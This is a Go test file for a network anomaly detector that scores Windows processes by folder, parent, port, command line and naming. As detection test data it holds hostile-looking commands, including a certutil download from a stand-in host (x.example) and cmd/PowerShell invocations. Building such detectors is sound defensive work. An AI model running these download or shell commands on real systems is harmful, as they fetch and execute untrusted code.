package network

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"sparkless/publish/anomaly"
	"sparkless/storage/event"
)

// finish returns the findings of a day after others.
func finish(t testing.TB, p Params, w event.Window, of *Connections, before []*Connections) []anomaly.Finding {
	t.Helper()
	d := New(p, "estate", 2)
	history := d.New()
	if len(before) > 0 {
		history = d.Past(of)
		for _, b := range before {
			past := d.Past(of)
			if _, err := past.Decode(encoded(t, b)); err != nil {
				t.Fatal(err)
			}
			history.Merge(past)
		}
	}
	records, err := d.Finish(context.Background(), w, of, history)
	if err != nil {
		t.Fatal(err)
	}
	var found []anomaly.Finding
	for _, r := range records {
		f, err := anomaly.Of(r)
		if err != nil {
			t.Fatal(err)
		}
		if f.Score < 0 || f.Score > 1 || len(f.AnomalyReasons) == 0 || f.Description == "" || !json.Valid(f.AnomalyDetails) {
			t.Errorf("an odd finding: %+v", f)
		}
		found = append(found, f)
	}
	charts, err := d.Charts(w, of, history, found)
	if err != nil || len(of.entries) > 0 && len(charts) < 2 {
		t.Errorf("%d charts: %v", len(charts), err)
	}
	return found
}

func reasons(f anomaly.Finding) (names []string) {
	for _, r := range f.AnomalyReasons {
		names = append(names, r.Name)
	}
	return names
}

func find(found []anomaly.Finding, entity string) *anomaly.Finding {
	if i := slices.IndexFunc(found, func(f anomaly.Finding) bool { return f.Entity == entity }); i >= 0 {
		return &found[i]
	}
	return nil
}

// odd is a connection of a process that is like others but for what is set.
func odd(c connection) connection {
	c.at, c.action, c.protocol = day(20).From, "ConnectionSuccess", "Tcp"
	if c.device == "" {
		c.device = "host3.corp.example"
	}
	if c.address == "" {
		c.address = "192.31.196.7"
	}
	if c.port == "" {
		c.port = "443"
	}
	return c
}

func TestWhatSpeaksAgainstAProcess(t *testing.T) {
	usual := browsing(rand.New(rand.NewPCG(1, 1)), day(20), 100, 3000)
	var before []*Connections
	for n := 15; n < 20; n++ {
		before = append(before, added(browsing(rand.New(rand.NewPCG(uint64(n), 1)), day(n), 100, 3000)...))
	}
	if found := finish(t, DefaultParams(), day(20), added(usual...), before); len(found) > 0 {
		t.Errorf("a usual day: %v", found)
	}
	const url = "https://updates.example/"
	for _, test := range []struct {
		name       string
		of         connection
		reasons    []string
		techniques []string
	}{
		{"new", connection{file: "helper.exe", path: `C:\Program Files\Helper\helper.exe`, parent: "services.exe", url: url}, []string{"first-seen", "rare-process"}, nil},
		{"temporary", connection{file: "helper.exe", path: `C:\USERS\x\AppData\Local\TEMP\helper.exe`, parent: "explorer.exe", url: url}, []string{"temporary-folder"}, nil},
		{"parent", connection{file: "powershell.exe", path: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, parent: "WINWORD.EXE", url: url}, []string{"unusual-parent", "shell"}, []string{"T1059.001", "T1204.002"}},
		{"IPv6", connection{file: "helper.exe", path: `C:\ProgramData\helper.exe`, address: "2620:4f:8000::9"}, []string{"address-without-name", "shared-folder"}, []string{"T1071"}},
		{"port", connection{file: "helper.exe", path: `C:\ProgramData\helper.exe`, port: "4444", url: url}, []string{"unusual-port"}, []string{"T1571"}},
		{"shell", connection{file: "helper.exe", path: `C:\ProgramData\helper.exe`, command: `helper.exe "C:\Windows\System32\CMD.exe" /c`, url: url}, []string{"shell-on-command-line"}, []string{"T1059.003"}},
		{"tool", connection{file: "certutil.exe", path: `C:\Windows\System32\certutil.exe`, command: `certutil -urlcache -f http://x.example/a b`, url: url}, []string{"system-tool", "command-line"}, []string{"T1105"}},
		{"folder", connection{file: "chrome.exe", path: `C:\Users\x\AppData\Roaming\chrome.exe`, parent: "explorer.exe", url: url}, []string{"profile-folder"}, []string{"T1036.005"}},
	} {
		found := finish(t, DefaultParams(), day(20), added(append(slices.Clone(usual), odd(test.of))...), before)
		f := find(found, test.of.file)
		if f == nil || len(found) != 1 {
			t.Errorf("%s: %d findings: %v", test.name, len(found), found)
			continue
		}
		for _, r := range test.reasons {
			if !slices.Contains(reasons(*f), r) {
				t.Errorf("%s: not for %s: %v", test.name, r, reasons(*f))
			}
		}
		for _, x := range test.techniques {
			if !slices.Contains(f.Techniques, x) {
				t.Errorf("%s: no %s: %v", test.name, x, f.Techniques)
			}
		}
		if test.of.url != "" && slices.Contains(reasons(*f), "address-without-name") {
			t.Errorf("%s: the address has a name", test.name)
		}
		if f.HistoryDays != 5 || f.SourceDevice != "host3.corp.example" || f.Events != 1 {
			t.Errorf("%s: %+v", test.name, f)
		}
	}
}

// On a day without history each reason has what is usual beside it, from the fleet of the
// day, and says so: 60 hosts connect, of which one has what is odd.
func TestWhatIsUsual(t *testing.T) {
	const url = "updates.example"
	list := append(browsing(rand.New(rand.NewPCG(1, 1)), day(20), 60, 3000),
		odd(connection{file: "helper.exe", path: `C:\Windows\Temp\helper.exe`, parent: "explorer.exe", port: "4444", command: `helper.exe cmd -hidden`}),
		odd(connection{file: "certutil.exe", path: `C:\Windows\System32\certutil.exe`, parent: "cmd.exe", command: `certutil -urlcache -f http://x.example/a b`, url: url}),
		odd(connection{file: "mshta.exe", path: `C:\Windows\System32\mshta.exe`, parent: "winword.exe", url: url}),
		odd(connection{file: "wscript.exe", path: `C:\Windows\System32\wscript.exe`, parent: "cmd.exe", url: url}),
		odd(connection{file: "chrome.exe", path: `C:\Users\x\AppData\Roaming\chrome.exe`, parent: "cmd.exe", url: url}),
		odd(connection{file: "setup-7.exe", path: `C:\Users\x\Downloads\setup-7.exe`, parent: "explorer.exe", url: url}))
	p := DefaultParams()
	p.Score = 0
	seen := map[string]anomaly.Reason{}
	for _, f := range finish(t, p, day(20), added(list...), nil) {
		for _, r := range f.AnomalyReasons {
			if r.Usual == "" {
				t.Errorf("%s: %+v", f.Entity, r)
			}
			if f.Score > 0.3 {
				seen[r.Name] = r
			}
		}
	}
	for name, want := range map[string]string{
		"rare-process": "chrome.exe on 60 of them", "shell": "some on all of 60 hosts", "system-tool": "none on 59 of 60 hosts", "shell-on-command-line": "none on ",
		"command-line": "none on 59 of 60 hosts", "temporary-folder": "a system folder (60 hosts)", "download-folder": "a system folder (60 hosts)",
		"profile-folder": "an installed folder (", "unusual-port": "443/tcp (", "address-without-name": "a name, in ", "unusual-parent": "",
	} {
		if r, ok := seen[name]; !ok || !strings.HasPrefix(r.Usual, want) {
			t.Errorf("%s: %+v", name, r)
		}
	}
}

// A port that three programs use is not unusual.
func TestPortsOfSeveralPrograms(t *testing.T) {
	usual := browsing(rand.New(rand.NewPCG(1, 1)), day(20), 100, 3000)
	for programs := 1; programs <= 4; programs++ {
		list := slices.Clone(usual)
		for i := range programs {
			list = append(list, odd(connection{file: fmt.Sprintf("%c.exe", 'a'+i), path: `C:\Windows\Temp\x.exe`, port: "9999"}))
		}
		f := find(finish(t, DefaultParams(), day(20), added(list...), nil), "a.exe")
		if f == nil || slices.Contains(reasons(*f), "unusual-port") != (programs <= 2) {
			t.Errorf("%d programs: %v", programs, f)
		}
	}
}

// A parent is unusual up to a tenth of the hosts that have the name.
func TestUnusualParents(t *testing.T) {
	const hosts = 60 // are counted one by one
	usual := browsing(rand.New(rand.NewPCG(1, 1)), day(20), hosts, 3000)
	p := DefaultParams()
	p.Score = 0
	for _, with := range []int{1, 6, 7, 30} {
		list := slices.Clone(usual)
		for i := range with {
			list = append(list, odd(connection{file: "chrome.exe", path: `C:\Program Files\Google\Chrome\Application\chrome.exe`, parent: "cmd.exe", device: fmt.Sprintf("host%d.corp.example", i)}))
		}
		d := newFleet(added(list...), NewConnections())
		i := slices.IndexFunc(d.kin[family{name: "chrome.exe"}].now, func(e *entry) bool { return e.parent == "cmd.exe" })
		v := d.judge(d.kin[family{name: "chrome.exe"}].now[i])
		if got := slices.ContainsFunc(v.evidence, func(x evidence) bool { return x.Name == "unusual-parent" }); got != (with <= 6) {
			t.Errorf("on %d of %d hosts: %v", with, hosts, got)
		}
	}
}

// Days on which a name ran from two parents count once.
func TestDaysSeen(t *testing.T) {
	var before []*Connections
	for n := 15; n < 18; n++ {
		var list []connection
		for _, parent := range []string{"a.exe", "b.exe"} {
			c := odd(connection{file: "backup.exe", path: `C:\Backup\backup.exe`, parent: parent})
			c.at = day(n).From
			list = append(list, c)
		}
		before = append(before, added(list...))
	}
	p := DefaultParams()
	p.Score = 0
	today := added(odd(connection{file: "backup.exe", path: `C:\Backup\backup.exe`, parent: "c.exe"}))
	found := finish(t, p, day(20), today, before)
	if len(found) != 1 || found[0].DaysSeen != 3 || found[0].HistoryDays != 3 {
		t.Errorf("%+v", found)
	}
}

func TestWhatDoesNotSpeakAgainstAProcess(t *testing.T) {
	usual := browsing(rand.New(rand.NewPCG(1, 1)), day(20), 100, 3000)
	for name, c := range map[string]connection{
		"a private address":          {file: "helper.exe", path: `C:\Windows\Temp\helper.exe`, address: "10.1.2.3"},
		"a new site of a browser":    {file: "chrome.exe", path: `C:\Program Files\Google\Chrome\Application\chrome.exe`, parent: "explorer.exe", address: "192.175.48.77"},
		"a shell within other words": {file: "chrome.exe", path: `C:\Program Files\Google\Chrome\Application\chrome.exe`, parent: "explorer.exe", command: "chrome.exe --cmdline=mypowershellx"},
	} {
		if found := finish(t, DefaultParams(), day(20), added(append(slices.Clone(usual), odd(c))...), nil); len(found) > 0 {
			t.Errorf("%s: %v", name, found)
		}
	}
}

// A tool that one host has had for days is less of a finding every day.
func TestFamiliarity(t *testing.T) {
	backup := connection{file: "backup.exe", path: `C:\ProgramData\backup.exe`, parent: "services.exe", port: "9999"}
	days := func(n int) (before []*Connections) {
		for i := range n {
			c := odd(backup)
			c.at = day(10 + i).From
			before = append(before, added(append(browsing(rand.New(rand.NewPCG(uint64(i), 1)), day(10+i), 50, 1000), c)...))
		}
		return before
	}
	p := DefaultParams()
	p.Score = 0
	today := added(append(browsing(rand.New(rand.NewPCG(1, 1)), day(20), 50, 1000), odd(backup))...)
	last, first := 1.0, 0.0
	for n := range 6 {
		f := find(finish(t, p, day(20), today, days(n)), "backup.exe")
		if n != 1 && f.Score > last { // the first day before tells that it is not new
			t.Errorf("after %d days %v, after one less %v", n, f.Score, last)
		}
		if f.DaysSeen != n || n > 0 && f.FirstSeen != anomaly.Timestamp(day(10).From.UnixNano()) {
			t.Errorf("seen on %d of %d days, first %s", f.DaysSeen, n, f.FirstSeen)
		}
		if last = f.Score; n == 0 {
			first = f.Score
		}
	}
	if last > first/2 {
		t.Errorf("after 5 days %v, at first %v", last, first)
	}
}

func TestSameBytesAndLeastScore(t *testing.T) {
	list := wild(rand.New(rand.NewPCG(5, 5)), 3000)
	p := DefaultParams()
	p.Score = 0
	all := finish(t, p, day(20), added(list...), nil)
	slices.Reverse(list)
	if again := finish(t, p, day(20), added(list...), nil); !reflect.DeepEqual(all, again) {
		t.Error("another order gives other findings")
	}
	p.Score = all[2].Score
	if some := finish(t, p, day(20), added(list...), nil); len(some) < 3 || some[len(some)-1].Score != all[2].Score {
		t.Error("a finding of exactly the least score is missing")
	}
	seen := map[string]bool{}
	for _, f := range all {
		if seen[f.FindingId] {
			t.Error("two findings of one ID")
		}
		seen[f.FindingId] = true
	}
}

func TestEmptyAndSmallDays(t *testing.T) {
	p := DefaultParams()
	p.Score = 0
	for _, p := range []Params{p, {Notebook: true}} {
		if found := finish(t, p, day(20), NewConnections(), nil); len(found) > 0 {
			t.Errorf("findings of nothing: %v", found)
		}
		finish(t, p, day(20), added(odd(connection{file: "a.exe"})), []*Connections{NewConnections()})
	}
}

func TestNotebook(t *testing.T) {
	list := browsing(rand.New(rand.NewPCG(1, 1)), day(20), 100, 3000)
	list = append(list, odd(connection{file: "zzz.exe", path: `c:\windows\temp\zzz.exe`, parent: "cmd.exe", command: "zzz.exe cmd"}))
	list = append(list, odd(connection{file: "only6.exe", address: "2620:4f:8000::9"}))
	found := finish(t, Params{Notebook: true, Seed: 42}, day(20), added(list...), nil)
	f := find(found, "zzz.exe")
	if f == nil || find(found, "only6.exe") != nil {
		t.Fatalf("%v", found)
	}
	if want := []string{"forest", "parent-differs", "temp", "shell-on-command-line"}; !slices.Equal(reasons(*f), want) || f.Mode != "notebook" {
		t.Errorf("%v, mode %q", reasons(*f), f.Mode)
	}
}

func TestParams(t *testing.T) {
	if err := DefaultParams().Validate(); err != nil {
		t.Error(err)
	}
	for _, p := range []Params{{Score: -0.1}, {Score: 1.1}} {
		if p.Validate() == nil {
			t.Errorf("%+v is allowed", p)
		}
	}
}

func TestAddresses(t *testing.T) {
	r := newRanges()
	for text, want := range map[string]bool{
		"8.8.8.8": true, "10.0.0.1": false, "100.63.255.255": true, "100.64.0.0": false, "100.127.255.255": false, "100.128.0.0": true,
		"127.0.0.1": false, "169.254.169.254": false, "172.15.255.255": true, "172.16.0.0": false, "172.31.255.255": false, "172.32.0.0": true,
		"192.0.0.8": false, "192.0.0.9": true, "192.0.2.1": false, "192.31.196.1": true, "192.88.99.1": false, "192.168.1.1": false,
		"198.18.0.1": false, "198.20.0.0": true, "198.51.100.7": false, "203.0.113.7": false, "224.0.0.251": false, "240.0.0.1": false,
		"255.255.255.255": false, "0.0.0.0": false, "168.63.129.16": false, "168.63.129.17": true,
		"::1": false, "::": false, "fe80::1%eth0": false, "fc00::1": false, "fd12::1": false, "ff02::fb": false, "2001:db8::1": false,
		"3fff::1": false, "4000::1": false, "2606:4700::1111": true, "2620:4f:8000::1": true, "2001:4:112::1": true, "2001:2::1": false,
		"::ffff:8.8.8.8": true, "::ffff:10.0.0.1": false, "64:ff9b::808:808": true, "64:ff9b::a00:1": false, "64:ff9b:1::808:808": false,
		"2002:808:808::1": true, "2002:a00:1::1": false, "2001:0:1:2:3:4:f7f7:f7f7": true, "2001:0:1:2:3:4:f5ff:fffe": false,
		"100::1": false, "5f00::1": false, "": false, "x": false, "8.8.8": false, "08.8.8.8": false,
	} {
		if _, got := r.public(text); got != want {
			t.Errorf("%s is public: %v", text, got)
		}
	}
	if a, _ := r.public("::ffff:8.8.8.8"); a.String() != "8.8.8.8" {
		t.Errorf("a mapped address is %s", a)
	}
}

func TestPlaces(t *testing.T) {
	for path, want := range map[string]place{
		`c:\windows\system32\svchost.exe`: system, `c:\windows\temp\a.exe`: passing, `c:\users\x\appdata\local\temp\7z1\a.exe`: passing,
		`c:\users\x\downloads\a.exe`: downloaded, `c:\users\public\a.exe`: passing, `c:\program files (x86)\a\a.exe`: installed,
		`c:\programdata\a\a.exe`: shared, `c:\users\x\appdata\roaming\a.exe`: profile, `/tmp/a`: passing, `/usr/bin/curl`: system,
		`/opt/a/a`: installed, `d:\tools\a.exe`: elsewhere, `system`: unknown, ``: unknown, `\\?\c:\windows\explorer.exe`: system,
		`\device\harddiskvolume3\windows\explorer.exe`: system, `\device\harddiskvolume`: elsewhere, `c:\windows\temp`: passing,
		`c:\program files\template\a.exe`: installed, `c:\`: unknown,
	} {
		if got := placeOf(path); got != want {
			t.Errorf("%s is %s", path, got)
		}
	}
	for p := range places {
		if got, ok := placeNamed(p.String()); !ok || got != p {
			t.Errorf("%s is read as %s", p, got)
		}
	}
}

// Names of 32 KB, which grow when they are made harmless, fit the charts.
func TestChartsOfHostileNames(t *testing.T) {
	var list []connection
	for _, c := range []string{"\x00", "\x1b", "\u202e", "ü", "\xff", "a", "<"} {
		long := strings.Repeat(c, 32<<10/len(c))
		list = append(list, odd(connection{file: long, path: `C:\Temp\` + long, parent: long, device: long, url: long, command: long, account: long}))
	}
	for i := range list {
		list[i].at = day(20).From
	}
	for _, notebook := range []bool{false, true} {
		p := DefaultParams()
		p.Notebook, p.Score = notebook, 0
		d := New(p, "all", 1)
		of := added(append(browsing(rand.New(rand.NewPCG(1, 1)), day(20), 20, 500), list...)...)
		charts, err := d.Charts(day(20), of, d.New(), finish(t, p, day(20), of, nil))
		if err != nil || len(charts) == 0 {
			t.Fatal(len(charts), err)
		}
	}
}

// Updaters whose names are drawn anew are judged together.
func TestNamesDrawnAnew(t *testing.T) {
	usual := browsing(rand.New(rand.NewPCG(1, 1)), day(20), 100, 3000)
	var before []*Connections
	updater := func(n, i int) connection {
		c := odd(connection{file: fmt.Sprintf("%08x.exe", 0xa0000000+1000*n+i), path: `C:\Windows\Temp\x.exe`, parent: "svchost.exe", device: fmt.Sprintf("host%d.corp.example", (7*i+n)%100)})
		c.at = day(n).From
		return c
	}
	for n := 15; n <= 20; n++ {
		list := browsing(rand.New(rand.NewPCG(uint64(n), 1)), day(n), 100, 3000)
		for i := range 20 {
			list = append(list, updater(n, i))
		}
		before = append(before, added(list...))
	}
	if found := finish(t, DefaultParams(), day(20), before[5], before[:5]); len(found) > 0 {
		t.Errorf("%d findings, the first: %s", len(found), found[0].Description)
	}
	if found := finish(t, DefaultParams(), day(20), added(append(usual, updater(20, 1))...), nil); len(found) != 1 {
		t.Errorf("%d findings of one", len(found))
	}
}

func TestWords(t *testing.T) {
	for line, want := range map[string]string{
		`"C:\Windows\system32\CMD.EXE" /c x`: "cmd", `powershell -nop`: "powershell", `a.exe --cmdline`: "", `a xcmdx`: "", `pwsh.exe`: "pwsh", ``: "",
	} {
		if got := shellOn(line, "a"); got != want {
			t.Errorf("%s: %q", line, got)
		}
	}
	if shellOn("cmd /c", "cmd") != "" {
		t.Error("the program itself counts")
	}
	if stem("a.exe") != "a" || stem("exe") != "exe" {
		t.Error("extensions")
	}
}

// A finding names the parents, and of each kind as many connections as all have together.
func TestEntitiesAddUp(t *testing.T) {
	p := DefaultParams()
	p.Score = 0
	list := []connection{odd(connection{file: "a.exe", parent: "cmd.exe"}), odd(connection{file: "a.exe", parent: "WINWORD.EXE"}), odd(connection{file: "a.exe", parent: "cmd.exe"})}
	f := find(finish(t, p, day(20), added(list...), nil), "a.exe")
	if f == nil || f.Entities[0].Kind != "process" || f.Entities[0].Count != f.Events {
		t.Fatalf("%+v", f)
	}
	sums := map[string]int64{}
	var parents []string
	for _, e := range f.Entities {
		sums[e.Kind] += e.Count
		if e.Kind == "parent" {
			parents = append(parents, fmt.Sprint(e.Value, " ", e.Count))
		}
	}
	if sums["parent"] != f.Events || sums["host"] != f.Events || sums["ip"] != f.Events || len(parents) == 0 || len(f.AnomalyReasons) == 0 {
		t.Errorf("%v, %v of %d", sums, parents, f.Events)
	}
}

// Where files come and go, a name that is drawn anew each time is the same program on
// every day, as long as its kind, its folder's kind and its parent's are.
func TestDrawnNames(t *testing.T) {
	p := DefaultParams()
	p.Score = 0
	const temporary, downloads = `C:\Users\ann\AppData\Local\Temp\`, `C:\Users\ann\Downloads\`
	id := func(c connection) string {
		f := finish(t, p, day(20), added(odd(c)), nil)
		if len(f) != 1 || f[0].Entity != strings.ToLower(c.file) {
			t.Fatalf("%+v", f)
		}
		return f[0].FindingId
	}
	at := func(folder, file, parent string) connection {
		return connection{file: file, path: folder + file, parent: parent}
	}
	for what, c := range map[string]struct {
		a, b connection
		same bool
	}{
		"random letters":          {at(temporary, "xqzkvwtt.exe", "explorer.exe"), at(temporary, "bdfghjkl.exe", "explorer.exe"), true},
		"random letters, digits":  {at(temporary, "k7q2wz9a.exe", "explorer.exe"), at(temporary, "M3x8ab1.exe", "explorer.exe"), true},
		"hexadecimal":             {at(temporary, "a0538f45.tmp", "setup.exe"), at(temporary, "b1649e56.tmp", "setup.exe"), true},
		"numbered":                {at(downloads, "offer-setup-879.exe", "chrome.exe"), at(downloads, "offer-setup-12.exe", "chrome.exe"), true},
		"parents that are drawn":  {at(temporary, "a0538f45.tmp", "c1649e56-setup.exe"), at(temporary, "b1649e56.tmp", "f0538f45-setup.exe"), true},
		"another parent":          {at(temporary, "xqzkvwtt.exe", "explorer.exe"), at(temporary, "bdfghjkl.exe", "winword.exe"), false},
		"another kind of folder":  {at(temporary, "xqzkvwtt.exe", "explorer.exe"), at(downloads, "bdfghjkl.exe", "explorer.exe"), false},
		"another kind of file":    {at(temporary, "xqzkvwtt.exe", "explorer.exe"), at(temporary, "bdfghjkl.scr", "explorer.exe"), false},
		"a word beside it":        {at(temporary, "offer-879.exe", "explorer.exe"), at(temporary, "recipe-879.exe", "explorer.exe"), false},
		"names that were chosen":  {at(temporary, "tollgate.exe", "explorer.exe"), at(temporary, "quarrel.exe", "explorer.exe"), false},
		"chosen, another parent":  {at(temporary, "tollgate.exe", "explorer.exe"), at(temporary, "tollgate.exe", "cmd.exe"), true},
		"where nobody may write":  {at(`C:\Program Files\`, "xqzkvwtt.exe", "explorer.exe"), at(`C:\Program Files\`, "bdfghjkl.exe", "explorer.exe"), false},
		"numbered and installed":  {at(`C:\Program Files\`, "tool7.exe", "explorer.exe"), at(`C:\Program Files\`, "tool8.exe", "explorer.exe"), false},
		"in somebody's own place": {at(`C:\Users\ann\AppData\Roaming\`, "xqzkvwtt.exe", "explorer.exe"), at(`C:\Users\ann\AppData\Roaming\`, "bdfghjkl.exe", "explorer.exe"), false},
	} {
		if got := id(c.a) == id(c.b); got != c.same {
			t.Errorf("%s: the same %v, want %v", what, got, c.same)
		}
	}
	// The IDs of all others are as they ever were.
	if got, want := id(at(temporary, "tollgate.exe", "cmd.exe")), anomaly.ID(Name, "estate", "tollgate.exe", "temporary"); got != want {
		t.Errorf("%s, want %s", got, want)
	}
}

// Of names that are drawn anew there is one finding a day, which names the files, and knows
// since when such are seen.
func TestFindingOfDrawnNames(t *testing.T) {
	p := DefaultParams()
	p.Score = 0
	of := func(d int, names ...string) *Connections {
		var list []connection
		for _, name := range names {
			c := odd(connection{file: name, path: `C:\Windows\Temp\` + name, parent: "explorer.exe"})
			c.at = day(d).From.Add(time.Hour)
			list = append(list, c)
		}
		return added(list...)
	}
	today := of(20, "setup-31.exe", "setup-32.exe", "setup-33.exe")
	f := finish(t, p, day(20), today, []*Connections{of(18, "setup-7.exe"), of(19, "setup-9.exe", "setup.exe")})
	if len(f) != 1 || f[0].Events != 3 || f[0].Entities[0].Value != "setup-#.exe" || f[0].Entities[0].Count != 3 || f[0].DaysSeen != 2 ||
		f[0].FirstSeen != "2026-11-18T01:00:00.0000000Z" {
		t.Fatalf("%+v", f)
	}
	files := 0
	for _, e := range f[0].Entities {
		if e.Kind == "file" {
			files++
		}
	}
	charts, err := New(p, "estate", 1).Charts(day(20), today, NewConnections(), f)
	if err != nil || files != 3 || charts[0].Series[0].Values[1] != 3 {
		t.Errorf("%d files, %+v, %v", files, charts[0].Series, err)
	}
}
